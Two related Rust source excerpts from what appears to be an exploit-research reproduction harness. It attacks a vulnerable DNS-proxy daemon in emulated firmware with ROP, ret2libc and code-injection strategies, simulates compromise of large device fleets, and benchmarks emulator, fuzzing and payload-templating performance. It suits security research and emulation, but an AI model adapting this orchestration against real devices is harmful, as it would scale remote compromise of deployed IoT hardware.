            self.insn_wall_secs,
            self.dispatch_insns
        )
    }
}

/// Runs both ablations at `trials` iterations per arm. The workload is
/// one E8-style trial: boot (or fork) an OpenELEC/x86 daemon under full
/// protections and deliver one oversized response.
fn run_ablations(trials: u64) -> Ablations {
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let prot = Protections::full();
    let labels: Vec<Vec<u8>> = vec![0x41u8; 1300].chunks(63).map(<[u8]>::to_vec).collect();

    // Arm 1: a fresh boot per trial.
    let t0 = Instant::now();
    let mut fresh_insns = 0u64;
    for seed in 0..trials {
        let mut daemon = fw.boot(prot, 0x5EED_0000 + seed);
        deliver_labels(&mut daemon, labels.clone());
        fresh_insns += daemon.machine().insn_count();
    }
    let fresh_wall_secs = t0.elapsed().as_secs_f64();

    // Arm 2: boot once, fork (restore + reslide) per trial. insn_count
    // is monotonic across restore, so the delta is the true trial cost.
    let t0 = Instant::now();
    let mut forge = fw.forge(prot, 0x5EED_0000);
    let mut forked_insns = 0u64;
    for seed in 0..trials {
        let daemon = forge.fork(0x5EED_0000 + seed);
        let before = daemon.machine().insn_count();
        deliver_labels(daemon, labels.clone());
        forked_insns += daemon.machine().insn_count() - before;
    }
    let forked_wall_secs = t0.elapsed().as_secs_f64();

    // Dispatch ablation: a daemon_init-shaped hot loop (the dominant
    // straight-line/backward-branch mix the fused dispatcher targets)
    // under fused basic-block dispatch vs. per-instruction stepping.
    let mut dispatch = [0.0f64; 2];
    let mut dispatch_insns = 0u64;
    for (slot, blocks_on) in [(0usize, true), (1usize, false)] {
        let t0 = Instant::now();
        let mut insns = 0u64;
        for _ in 0..trials {
            let mut m = dispatch_loop_machine();
            m.set_block_dispatch_enabled(blocks_on);
            m.run(1_000_000);
            insns += m.insn_count();
        }
        dispatch[slot] = t0.elapsed().as_secs_f64();
        dispatch_insns = insns / trials.max(1);
    }

    Ablations {
        trials,
        fresh_insns: fresh_insns / trials.max(1),
        forked_insns: forked_insns / trials.max(1),
        fresh_wall_secs,
        forked_wall_secs,
        block_wall_secs: dispatch[0],
        insn_wall_secs: dispatch[1],
        dispatch_insns,
    }
}

/// A machine running a daemon_init-shaped x86 hot loop (~300k executed
/// instructions): `mov ecx, 50000; loop: inc eax ×4; dec ecx; jnz loop`
/// then `exit(0)`.
fn dispatch_loop_machine() -> Machine {
    use cml_image::{Perms, SectionKind};
    let code = x86::Asm::new()
        .mov_r_imm(X86Reg::Ecx, 50_000)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .dec_r(X86Reg::Ecx)
        .jnz_rel8(-7)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .mov_r8_imm(X86Reg::Eax, 1)
        .int80()
        .finish();
    let mut m = Machine::new(cml_image::Arch::X86);
    m.mem_mut()
        .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
    m.mem_mut()
        .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
    m.mem_mut().poke(0x1000, &code).expect("code fits");
    m.regs_mut().set_pc(0x1000);
    m.regs_mut().set_sp(0x8800);
    m
}

/// `--bench-smoke`: a tiny-iteration ablation run compared against the
/// newest committed `BENCH_<n>.json` that carries ablation records.
/// Fails (exit 1) when the snapshot advantage collapsed by more than 2x
/// in instruction terms; skips with a note (exit 0) when no baseline
/// file exists yet.
fn smoke_vs_baseline() -> i32 {
    let current = run_ablations(SMOKE_TRIALS);
    println!("{}", current.describe());
    let Some((path, baseline_ratio)) = newest_baseline_ratio() else {
        println!("bench-smoke: no committed BENCH_*.json with ablations — skipping comparison");
        return 0;
    };
    let ratio = current.insn_ratio();
    println!(
        "bench-smoke: snapshot insn ratio {ratio:.1}x vs {baseline_ratio:.1}x baseline ({path})"
    );
    if ratio < baseline_ratio / 2.0 {
        println!("bench-smoke: FAIL — snapshot advantage regressed by more than 2x");
        return 1;
    }
    println!("bench-smoke: OK");
    0
}

/// Finds the highest-numbered `BENCH_<n>.json` in the working directory
/// that contains a `snapshot_vs_reboot` record and extracts its
/// instruction ratio.
fn newest_baseline_ratio() -> Option<(String, f64)> {
    let mut best: Option<(u64, String)> = None;
    for entry in std::fs::read_dir(".").ok()?.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if let Some(n) = name
            .strip_prefix("BENCH_")
            .and_then(|s| s.strip_suffix(".json"))
            .and_then(|s| s.parse::<u64>().ok())
        {
            if best.as_ref().is_none_or(|(b, _)| n > *b) {
                best = Some((n, name));
            }
        }
    }
    let (_, path) = best?;
    let doc = std::fs::read_to_string(&path).ok()?;
    let ratio = json_number_after(&doc, "\"snapshot_vs_reboot\"", "\"insn_ratio\":")?;
    Some((path, ratio))
}

/// Extracts the first number following `key` after `section` in a JSON
/// document we generated ourselves (the approved dependency set has no
/// JSON parser; our own output is regular enough for a scan).
fn json_number_after(doc: &str, section: &str, key: &str) -> Option<f64> {
    let tail = &doc[doc.find(section)? + section.len()..];
    let tail = &tail[tail.find(key)? + key.len()..];
    let end = tail
        .find(|c: char| c != '.' && c != '-' && !c.is_ascii_digit())
        .unwrap_or(tail.len());
    tail[..end].parse().ok()
}

/// Runs the six-cell exploit matrix (x86/ARM × none/W⊕X/W⊕X+ASLR) with
/// the VM shadow-memory sanitizer armed on the victim and prints the
/// precise overflow diagnostics each cell produces. Returns the process
/// exit code: 0 when every cell is pinpointed, 1 otherwise.
fn sanitize_matrix() -> i32 {
    let cells: [(Protections, &str); 3] = [
        (Protections::none(), "none"),
        (Protections::wxorx(), "wxorx"),
        (Protections::full(), "full"),
    ];
    let mut all_pinpointed = true;
    println!("### shadow-memory sanitizer: 6-cell exploit matrix\n");
    for arch in Arch::ALL {
        for (prot, prot_name) in cells {
            let strategy: Box<dyn ExploitStrategy> = if prot.aslr.enabled {
                Box::new(RopMemcpyChain::new(arch))
            } else if prot.wxorx {
                match arch {
                    Arch::X86 => Box::new(Ret2Libc::new()),
                    Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
                }
            } else {
                Box::new(CodeInjection::new(arch))
            };
            let lab = Lab::new(FirmwareKind::OpenElec, arch)
                .with_protections(prot)
                .with_sanitizer(true);
            let cell = format!("{arch}/{prot_name} ({})", strategy.name());
            match lab.run_exploit(strategy.as_ref()) {
                Ok(report) => match report.proxy_outcome {
                    ProxyOutcome::Crashed(ref fr)
                        if matches!(fr.fault, Fault::RedzoneViolation { .. }) =>
                    {
                        println!("{cell}: {}", fr.fault);
                    }
                    ref other => {
                        all_pinpointed = false;
                        println!("{cell}: NOT PINPOINTED — {other}");
                    }
                },
                Err(e) => {
                    all_pinpointed = false;
                    println!("{cell}: attack could not be built: {e}");
                }
            }
        }
    }
    println!();
    if all_pinpointed {
        println!("all 6 cells pinpointed by the sanitizer");
        0
    } else {
        println!("some cells escaped the sanitizer");
        1
    }
}

/// Times one full static-analysis pipeline (CFG recovery + taint pass +
/// mitigation audit) per architecture over the OpenElec image.
fn analysis_timings() -> Vec<(Arch, f64, usize)> {
    Arch::ALL
        .iter()
        .map(|&arch| {
            let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
            let t0 = Instant::now();
            let report = cml_analyze::analyze(firmware.image());
            (arch, t0.elapsed().as_secs_f64(), report.cfg.instructions)
        })
        .collect()
}

/// First `BENCH_<n>.json` name not already taken in the working dir.
fn next_bench_path() -> String {
    (0..)
        .map(|n| format!("BENCH_{n}.json"))
        .find(|p| !std::path::Path::new(p).exists())
        .expect("some index is free")
}

fn bench_json_doc(
    jobs: usize,
    timings: &[(String, f64)],
    fleet: &cml_core::fleet::FleetReport,
    analysis: &[(Arch, f64, usize)],
    ablations: &Ablations,
) -> String {
    let exps: Vec<String> = timings
        .iter()
        .map(|(id, secs)| format!("{{\"id\":\"{id}\",\"wall_secs\":{secs:.6}}}"))
        .collect();
    let ana: Vec<String> = analysis
        .iter()
        .map(|(arch, secs, insns)| {
            format!("{{\"arch\":\"{arch}\",\"wall_secs\":{secs:.6},\"instructions\":{insns}}}")
        })
        .collect();
    let abl = format!(
        "{{\"snapshot_vs_reboot\":{{\"trials\":{},\"fresh_insns_per_trial\":{},\
         \"forked_insns_per_trial\":{},\"insn_ratio\":{:.2},\"fresh_wall_secs\":{:.6},\
         \"forked_wall_secs\":{:.6}}},\"block_vs_insn\":{{\"trials\":{},\
         \"insns_per_trial\":{},\"block_wall_secs\":{:.6},\"insn_wall_secs\":{:.6}}}}}",
        ablations.trials,
        ablations.fresh_insns,
        ablations.forked_insns,
        ablations.insn_ratio(),
        ablations.fresh_wall_secs,
        ablations.forked_wall_secs,
        ablations.trials,
        ablations.dispatch_insns,
        ablations.block_wall_secs,
        ablations.insn_wall_secs
    );
    format!(
        "{{\"jobs\":{jobs},\"experiments\":[{}],\"analysis\":[{}],\"ablations\":{},\
         \"fleet\":{{\"devices\":{},\
         \"jobs\":{},\"wall_secs\":{:.6},\"devices_per_sec\":{:.2},\
         \"compromised\":{},\"survivors\":{}}}}}\n",
        exps.join(","),
        ana.join(","),
        abl,
        fleet.outcomes.len(),
        fleet.jobs,
        fleet.elapsed.as_secs_f64(),
        fleet.devices_per_sec(),
        fleet.compromised(),
        fleet.survivors()
    )
}

/// Minimal JSON rendering (the approved dependency set has serde but not
/// serde_json; tables are simple enough to emit by hand).
fn to_json(suite: &Suite) -> String {
    fn esc(s: &str) -> String {
        s.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n")
    }
    let tables: Vec<String> = suite
        .tables
        .iter()
        .map(|t| {
            let rows: Vec<String> = t
                .rows
                .iter()
                .map(|r| {
                    let cells: Vec<String> = r.iter().map(|c| format!("\"{}\"", esc(c))).collect();
                    format!("[{}]", cells.join(","))
                })
                .collect();
            let header: Vec<String> = t.header.iter().map(|h| format!("\"{}\"", esc(h))).collect();
            let notes: Vec<String> = t.notes.iter().map(|n| format!("\"{}\"", esc(n))).collect();
            format!(
                "{{\"id\":\"{}\",\"title\":\"{}\",\"header\":[{}],\"rows\":[{}],\"notes\":[{}]}}",
                esc(&t.id),
                esc(&t.title),
                header.join(","),
                rows.join(","),
                notes.join(",")
            )
        })
        .collect();
    format!("{{\"tables\":[{}]}}", tables.join(","))
}
