//! Regenerates every table/figure of the reproduced paper.
//!
//! ```text
//! repro                 # run E1..E10, print markdown to stdout
//! repro --exp e2 e5     # run selected experiments
//! repro --out FILE      # also write the markdown to FILE
//! repro --json          # machine-readable output
//! repro --jobs 4        # fan matrix experiments across 4 workers
//! repro --bench-json    # also time each experiment + a 1,000-device
//!                       # fleet + the static analyzer + the snapshot /
//!                       # dispatch / template / pool / resolver-cache
//!                       # ablations and write BENCH_<n>.json
//! repro --bench-smoke   # tiny-iteration ablation run compared against
//!                       # the newest committed BENCH_*.json; exits 1 on
//!                       # a >2x regression, 0 (with a note) when no
//!                       # baseline exists
//! repro --no-snapshot   # boot every E8 trial from scratch instead of
//!                       # forking a per-entropy-level snapshot
//! repro --no-ir         # pin the whole run to fused-block dispatch
//!                       # (threaded-code IR off), the CI fallback lane

//! repro --sanitize      # run the 9-cell exploit matrix under the VM
//!                       # shadow-memory sanitizer and print precise
//!                       # overflow diagnostics per cell
//! ```

use std::alloc::{GlobalAlloc, Layout, System};
use std::io::Write;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

use cml_core::experiments;
use cml_core::fleet::{run_fleet_cfg, run_fleet_with, FleetConfig, FleetSpec, ENTROPY_FULL};
use cml_core::report::Suite;
use cml_core::{Arch, Firmware, FirmwareKind, Lab, Protections, ProxyOutcome};
use cml_dns::{BufPool, Message, Name, Question, RecordType};
use cml_exploit::target::deliver_labels;
use cml_exploit::template::apply_slides;
use cml_exploit::{
    ArmGadgetExeclp, CodeInjection, ExploitStrategy, MaliciousDnsServer, PayloadTemplate, Ret2Libc,
    RiscvGadgetSystem, RopMemcpyChain, Slides,
};
use cml_fuzz::FuzzConfig;
use cml_vm::{x86, Fault, Machine, X86Reg};

/// Counts allocation-acquiring calls so the ablations can report heap
/// traffic alongside wall time (frees are uninteresting here).
struct CountingAllocator;

static ALLOCS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

fn allocs_so_far() -> u64 {
    ALLOCS.load(Ordering::Relaxed)
}

const ALL_IDS: [&str; 10] = ["e1", "e2", "e3", "e4", "e5", "e6", "e7", "e8", "e9", "e10"];
const FLEET_DEVICES: u64 = 1000;

/// Devices in the `fleet_scale` headline scenario (homogeneous cohort,
/// weak-boot-entropy class model — the million-device campaign).
const FLEET_SCALE_DEVICES: u64 = 1_000_000;

/// Devices per `fleet_scale` ablation arm. Run at full boot entropy
/// (one session per device) so per-session costs dominate and the
/// batched/streamed arms are compared against real per-device work.
const FLEET_ABLATION_DEVICES: u64 = 100_000;

fn main() {
    let mut ids: Vec<String> = Vec::new();
    let mut out_path: Option<String> = None;
    let mut json = false;
    let mut bench_json = false;
    let mut bench_smoke = false;
    let mut sanitize = false;
    let mut snapshot = true;
    let mut jobs = 1usize;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--exp" => { /* ids follow */ }
            "--out" => out_path = args.next(),
            "--json" => json = true,
            "--bench-json" | "--timings" => bench_json = true,
            "--bench-smoke" => bench_smoke = true,
            "--sanitize" => sanitize = true,
            "--no-snapshot" => snapshot = false,
            "--no-ir" => cml_vm::set_ir_dispatch_default(false),
            "--jobs" => {
                jobs = args.next().and_then(|v| v.parse().ok()).unwrap_or_else(|| {
                    eprintln!("--jobs wants a number, using 1");
                    1
                });
            }
            "--help" | "-h" => {
                eprintln!(
                    "usage: repro [--exp e1 e2 …] [--out FILE] [--json] \
                     [--jobs N] [--bench-json|--timings] [--bench-smoke] \
                     [--no-snapshot] [--no-ir] [--sanitize]"
                );
                return;
            }
            other => ids.push(other.to_string()),
        }
    }

    if bench_smoke {
        std::process::exit(smoke_vs_baseline());
    }
    if sanitize {
        std::process::exit(sanitize_matrix());
    }

    let run_ids: Vec<String> = if ids.is_empty() {
        ALL_IDS.iter().map(|s| s.to_string()).collect()
    } else {
        ids.clone()
    };
    if ids.is_empty() {
        eprintln!("running all experiments (E1..E10) on {jobs} worker(s)…");
    }

    // Run experiment-by-experiment so --bench-json can attribute wall
    // time to each table; concatenating per-id runs reproduces
    // run_all_jobs() output exactly (both are ordered merges).
    let mut tables = Vec::new();
    let mut timings: Vec<(String, f64)> = Vec::new();
    for id in &run_ids {
        let t0 = Instant::now();
        match experiments::run_one_jobs_with(id, jobs, snapshot) {
            Some(t) => {
                let secs = t0.elapsed().as_secs_f64();
                eprintln!("finished {id} in {:.2}s", secs);
                timings.push((id.clone(), secs));
                tables.push(t);
            }
            None => eprintln!("unknown experiment id {id:?} (want e1..e10)"),
        }
    }
    let suite = Suite { tables };

    let body = if json {
        to_json(&suite)
    } else {
        suite.to_markdown()
    };
    println!("{body}");
    if let Some(path) = out_path {
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(body.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }

    if bench_json {
        let spec = FleetSpec::heterogeneous(FLEET_DEVICES, 0xF1EE7);
        eprintln!("timing a {FLEET_DEVICES}-device fleet on {jobs} worker(s)…");
        let report = run_fleet_with(&spec, jobs, snapshot);
        eprintln!(
            "fleet: {} devices in {:.2}s ({:.1} devices/sec, {} compromised)",
            report.devices,
            report.elapsed.as_secs_f64(),
            report.devices_per_sec(),
            report.compromised()
        );
        eprintln!("timing the fleet_scale campaign ({FLEET_SCALE_DEVICES} devices)…");
        let scale = fleet_scale_timings(jobs);
        eprintln!("{}", scale.describe());
        eprintln!("timing the static analyzer on all three architectures…");
        let analysis = analysis_timings();
        for (arch, secs, vsa_secs, insns) in &analysis {
            eprintln!(
                "analyzer: {arch} CFG+taint+VSA+audit over {insns} instructions \
                 in {secs:.4}s (VSA alone {vsa_secs:.4}s)"
            );
        }
        eprintln!("running the snapshot/dispatch ablations…");
        let ablations = run_ablations(ABLATION_TRIALS);
        eprintln!("{}", ablations.describe());
        let path = next_bench_path();
        let doc = bench_json_doc(jobs, &timings, &report, &scale, &analysis, &ablations);
        match std::fs::File::create(&path).and_then(|mut f| f.write_all(doc.as_bytes())) {
            Ok(()) => eprintln!("wrote {path}"),
            Err(e) => eprintln!("failed to write {path}: {e}"),
        }
    }
}

/// Trials per ablation arm for the full `--bench-json` run.
const ABLATION_TRIALS: u64 = 48;

/// Trials per ablation arm for the `--bench-smoke` CI stage.
const SMOKE_TRIALS: u64 = 6;

/// The harness-throughput ablation numbers recorded in `BENCH_<n>.json`.
struct Ablations {
    trials: u64,
    /// Mean executed instructions per E8-style trial, fresh boot each.
    fresh_insns: u64,
    /// Same, forking one snapshot (restore + reslide) per trial.
    forked_insns: u64,
    fresh_wall_secs: f64,
    forked_wall_secs: f64,
    /// Wall seconds for the same hot-loop run under threaded-code IR
    /// dispatch vs. fused basic-block dispatch vs. forced
    /// per-instruction stepping (same insn counts — the modes are
    /// semantically identical; only dispatch cost moves). Under
    /// `--no-ir` the IR arm inherits the disabled default and measures
    /// the block path again.
    ir_wall_secs: f64,
    block_wall_secs: f64,
    insn_wall_secs: f64,
    /// Executed instructions per run in both dispatch arms.
    dispatch_insns: u64,
    /// Template-vs-rebuild: producing per-device payload labels by
    /// relocating a compiled template vs. rebuilding from scratch.
    /// Both arms run the same number of label builds (`pooled_queries`).
    rebuild_wall_secs: f64,
    template_wall_secs: f64,
    rebuild_allocs_per_build: u64,
    template_allocs_per_build: u64,
    /// Pooled-vs-alloc: answering the canonical proxy query into a warm
    /// pooled buffer vs. allocating a fresh response vector each time.
    pooled_queries: u64,
    alloc_wall_secs: f64,
    pooled_wall_secs: f64,
    alloc_allocs_per_query: u64,
    pooled_allocs_per_query: u64,
    /// Resolver cache: warm cache-hit replay through the recursive
    /// resolver into a pooled output buffer (the fleet fast path) vs.
    /// the same hits into a fresh `Vec` per query vs. cache-off (every
    /// query walks the full root → TLD → authoritative chain).
    resolver_queries: u64,
    resolver_cached_wall_secs: f64,
    resolver_alloc_wall_secs: f64,
    resolver_uncached_queries: u64,
    resolver_uncached_wall_secs: f64,
    resolver_cached_allocs_per_query: u64,
    resolver_alloc_allocs_per_query: u64,
    /// Fuzzing throughput: a fixed-seed coverage-guided campaign on the
    /// vulnerable x86 daemon, snapshot-fork per exec, edge map armed.
    fuzz_execs: u64,
    fuzz_wall_secs: f64,
    /// Same campaign with a full boot per exec instead of a fork (the
    /// two campaigns execute identical input sequences — same derived
    /// RNG streams — so only the restore-vs-boot cost moves).
    fuzz_reboot_wall_secs: f64,
    /// Coverage-hook cost, measured by replaying one fixed input set
    /// through the harness with the edge map armed vs disarmed —
    /// identical work in both arms, only the bitmap writes differ.
    cov_replay_execs: u64,
    cov_on_wall_secs: f64,
    cov_off_wall_secs: f64,
    /// Per-ISA decode ablation: walking the vulnerable image's `.text`
    /// end to end with the declarative-table decoder vs. the retained
    /// hand-rolled reference decoder. One entry per architecture:
    /// `(arch, table_wall_secs, handrolled_wall_secs, insns_per_pass)`.
    decode_table: Vec<(Arch, f64, f64, u64)>,
    /// RISC-V fuzzing throughput: the same fixed-seed campaign as
    /// `fuzz_execs`, on the RV32IC target.
    riscv_fuzz_execs: u64,
    riscv_fuzz_wall_secs: f64,
}

impl Ablations {
    fn insn_ratio(&self) -> f64 {
        self.fresh_insns as f64 / self.forked_insns.max(1) as f64
    }

    fn template_wall_ratio(&self) -> f64 {
        self.rebuild_wall_secs / self.template_wall_secs.max(1e-12)
    }

    fn pooled_wall_ratio(&self) -> f64 {
        self.alloc_wall_secs / self.pooled_wall_secs.max(1e-12)
    }

    fn fuzz_execs_per_sec(&self) -> f64 {
        self.fuzz_execs as f64 / self.fuzz_wall_secs.max(1e-12)
    }

    fn riscv_fuzz_execs_per_sec(&self) -> f64 {
        self.riscv_fuzz_execs as f64 / self.riscv_fuzz_wall_secs.max(1e-12)
    }

    /// Warm cache-hit throughput — the headline queries/sec figure.
    fn resolver_qps(&self) -> f64 {
        self.resolver_queries as f64 / self.resolver_cached_wall_secs.max(1e-12)
    }

    /// Per-query cost of turning the cache off: full recursion wall per
    /// query over warm hit wall per query.
    fn resolver_cache_off_ratio(&self) -> f64 {
        let uncached =
            self.resolver_uncached_wall_secs / self.resolver_uncached_queries.max(1) as f64;
        let cached = self.resolver_cached_wall_secs / self.resolver_queries.max(1) as f64;
        uncached / cached.max(1e-15)
    }

    /// Fresh-`Vec`-per-hit cost over the pooled warm-buffer path (same
    /// query count in both arms).
    fn resolver_alloc_ratio(&self) -> f64 {
        self.resolver_alloc_wall_secs / self.resolver_cached_wall_secs.max(1e-12)
    }

    /// Fused-block advantage over per-instruction stepping.
    fn block_vs_insn_ratio(&self) -> f64 {
        self.insn_wall_secs / self.block_wall_secs.max(1e-12)
    }

    /// Threaded-code IR advantage over fused-block dispatch (the PR 6
    /// tentpole metric; ≥ 5.0 is the acceptance bar).
    fn ir_vs_block_ratio(&self) -> f64 {
        self.block_wall_secs / self.ir_wall_secs.max(1e-12)
    }

    /// Wall cost of the coverage bitmap: armed / disarmed (≥ 1.0 means
    /// the hook costs something; close to 1.0 is the goal).
    fn coverage_overhead_ratio(&self) -> f64 {
        self.cov_on_wall_secs / self.cov_off_wall_secs.max(1e-12)
    }

    /// Snapshot-fork advantage inside the fuzz loop: reboot / fork.
    fn fork_vs_reboot_fuzz_ratio(&self) -> f64 {
        self.fuzz_reboot_wall_secs / self.fuzz_wall_secs.max(1e-12)
    }

    fn describe(&self) -> String {
        let decode = self
            .decode_table
            .iter()
            .map(|(arch, table, hand, insns)| {
                format!(
                    "{arch} {:.4}s table vs {:.4}s hand-rolled over {} insns/pass ({:.2}x)",
                    table,
                    hand,
                    insns,
                    hand / table.max(1e-12)
                )
            })
            .collect::<Vec<_>>()
            .join("; ");
        format!(
            "snapshot_vs_reboot: {} vs {} insns/trial ({:.1}x fewer), \
             {:.3}s vs {:.3}s over {} trials\n\
             block_vs_insn: {:.3}s vs {:.3}s for {} insns/trial ({:.1}x)\n\
             ir_vs_block: {:.3}s vs {:.3}s for the same loop ({:.1}x)\n\
             template_vs_rebuild: {:.4}s rebuild vs {:.4}s relocate \
             ({:.1}x cheaper wall; {} vs {} allocs/build)\n\
             pooled_vs_alloc: {:.4}s alloc vs {:.4}s pooled over {} queries \
             ({:.1}x cheaper wall; {} vs {} allocs/query)\n\
             resolver: {:.0} q/s warm cache over {} hits ({} allocs/query); \
             fresh-Vec hits {:.1}x slower ({} allocs/query); cache-off \
             {:.0}x slower per query ({} full recursions)\n\
             fuzz: {} execs in {:.3}s ({:.0} execs/sec); coverage hook \
             {:.2}x wall overhead; reboot-per-exec {:.1}x slower than fork\n\
             decode_table: {}\n\
             riscv_fuzz: {} execs in {:.3}s ({:.0} execs/sec)",
            self.fresh_insns,
            self.forked_insns,
            self.insn_ratio(),
            self.fresh_wall_secs,
            self.forked_wall_secs,
            self.trials,
            self.block_wall_secs,
            self.insn_wall_secs,
            self.dispatch_insns,
            self.block_vs_insn_ratio(),
            self.ir_wall_secs,
            self.block_wall_secs,
            self.ir_vs_block_ratio(),
            self.rebuild_wall_secs,
            self.template_wall_secs,
            self.template_wall_ratio(),
            self.rebuild_allocs_per_build,
            self.template_allocs_per_build,
            self.alloc_wall_secs,
            self.pooled_wall_secs,
            self.pooled_queries,
            self.pooled_wall_ratio(),
            self.alloc_allocs_per_query,
            self.pooled_allocs_per_query,
            self.resolver_qps(),
            self.resolver_queries,
            self.resolver_cached_allocs_per_query,
            self.resolver_alloc_ratio(),
            self.resolver_alloc_allocs_per_query,
            self.resolver_cache_off_ratio(),
            self.resolver_uncached_queries,
            self.fuzz_execs,
            self.fuzz_wall_secs,
            self.fuzz_execs_per_sec(),
            self.coverage_overhead_ratio(),
            self.fork_vs_reboot_fuzz_ratio(),
            decode,
            self.riscv_fuzz_execs,
            self.riscv_fuzz_wall_secs,
            self.riscv_fuzz_execs_per_sec()
        )
    }
}

/// Inner repetitions per trial for the allocation-path ablations (one
/// template relocation or pooled query is far below timer resolution).
const PATH_REPS: u64 = 64;

/// Runs the ablations at `trials` iterations per arm. The snapshot and
/// dispatch workloads are one E8-style trial: boot (or fork) an
/// OpenELEC/x86 daemon under full protections and deliver one oversized
/// response. The template and pool workloads are one steady-state fleet
/// payload/packet step.
fn run_ablations(trials: u64) -> Ablations {
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let prot = Protections::full();
    let labels: Vec<Vec<u8>> = vec![0x41u8; 1300].chunks(63).map(<[u8]>::to_vec).collect();

    // Arm 1: a fresh boot per trial.
    let t0 = Instant::now();
    let mut fresh_insns = 0u64;
    for seed in 0..trials {
        let mut daemon = fw.boot(prot, 0x5EED_0000 + seed);
        deliver_labels(&mut daemon, labels.clone());
        fresh_insns += daemon.machine().insn_count();
    }
    let fresh_wall_secs = t0.elapsed().as_secs_f64();

    // Arm 2: boot once, fork (restore + reslide) per trial. insn_count
    // is monotonic across restore, so the delta is the true trial cost.
    let t0 = Instant::now();
    let mut forge = fw.forge(prot, 0x5EED_0000);
    let mut forked_insns = 0u64;
    for seed in 0..trials {
        let daemon = forge.fork(0x5EED_0000 + seed);
        let before = daemon.machine().insn_count();
        deliver_labels(daemon, labels.clone());
        forked_insns += daemon.machine().insn_count() - before;
    }
    let forked_wall_secs = t0.elapsed().as_secs_f64();

    // Dispatch ablation: a daemon_init-shaped hot loop (the dominant
    // straight-line/backward-branch mix the fused dispatcher targets)
    // under threaded-code IR dispatch vs. fused basic-block dispatch
    // vs. per-instruction stepping. The IR arm inherits the process
    // default so `--no-ir` measures the fallback honestly; the block
    // arm pins IR off so its number stays comparable to PR 3.
    // Trials interleave the three arms round-robin and time only the
    // `run()` call, so slow machine phases hit every arm equally and
    // setup cost stays out of the ratio.
    let mut dispatch = [0.0f64; 3];
    let mut dispatch_insns = 0u64;
    for _ in 0..trials {
        let mut insns = 0u64;
        for (slot, ir_on, blocks_on) in [
            (0usize, None, true),
            (1, Some(false), true),
            (2, Some(false), false),
        ] {
            let mut m = dispatch_loop_machine();
            if let Some(on) = ir_on {
                m.set_ir_dispatch_enabled(on);
            }
            m.set_block_dispatch_enabled(blocks_on);
            let t0 = Instant::now();
            m.run(1_000_000);
            dispatch[slot] += t0.elapsed().as_secs_f64();
            insns = m.insn_count();
        }
        dispatch_insns = insns;
    }

    // Template ablation: per-device payload labels by rebuilding from
    // scratch against the slid target vs. relocating a compiled
    // template into warm buffers. Same slide sequence in both arms.
    let strategy = RopMemcpyChain::new(Arch::X86);
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::X86).with_protections(prot);
    let reference = lab.recon().expect("replica recon");
    let template = PayloadTemplate::compile(&strategy, &reference).expect("template compiles");
    let slides_for = |i: u64| Slides {
        pie: ((i % 29) * 0x1000) as i64,
        libc: ((i % 23) * 0x1000) as i64,
        stack: ((i % 31) * 0x1000) as i64,
        canary: 0,
    };
    let reps = trials * PATH_REPS;

    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for i in 0..reps {
        let labels = strategy
            .build(&apply_slides(&reference, &slides_for(i)))
            .expect("rebuild against the slid target")
            .to_labels()
            .expect("rebuild labels");
        std::hint::black_box(&labels);
    }
    let rebuild_wall_secs = t0.elapsed().as_secs_f64();
    let rebuild_allocs = allocs_so_far() - a0;

    let mut image_buf = Vec::new();
    let mut label_buf = Vec::new();
    for i in 0..4 {
        // Warm-up sizes the buffers before the measured window.
        template
            .relocate_labels(&slides_for(i), &mut image_buf, &mut label_buf)
            .expect("static plan");
    }
    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for i in 0..reps {
        template
            .relocate_labels(&slides_for(i), &mut image_buf, &mut label_buf)
            .expect("static plan");
        std::hint::black_box(&label_buf);
    }
    let template_wall_secs = t0.elapsed().as_secs_f64();
    let template_allocs = allocs_so_far() - a0;

    // Pool ablation: answering the canonical proxy query into a fresh
    // Vec per query vs. into a warm pooled buffer.
    let labels = template
        .instantiate(&Slides::identity())
        .expect("identity labels");
    let mut server = MaliciousDnsServer::with_labels(labels, template.name());
    let query = Message::query(
        0x5150,
        Question::new(
            Name::parse("telemetry.vendor.example").expect("valid"),
            RecordType::A,
        ),
    )
    .encode()
    .expect("encodes");

    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for _ in 0..reps {
        let response = server.handle(&query).expect("query answered");
        std::hint::black_box(&response);
    }
    let alloc_wall_secs = t0.elapsed().as_secs_f64();
    let alloc_allocs = allocs_so_far() - a0;

    let mut pool = BufPool::new();
    for _ in 0..4 {
        let mut out = pool.checkout();
        assert!(server.handle_into(&query, &mut out), "query answered");
        pool.checkin(out);
    }
    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for _ in 0..reps {
        let mut out = pool.checkout();
        server.handle_into(&query, &mut out);
        std::hint::black_box(out.as_bytes());
        pool.checkin(out);
    }
    let pooled_wall_secs = t0.elapsed().as_secs_f64();
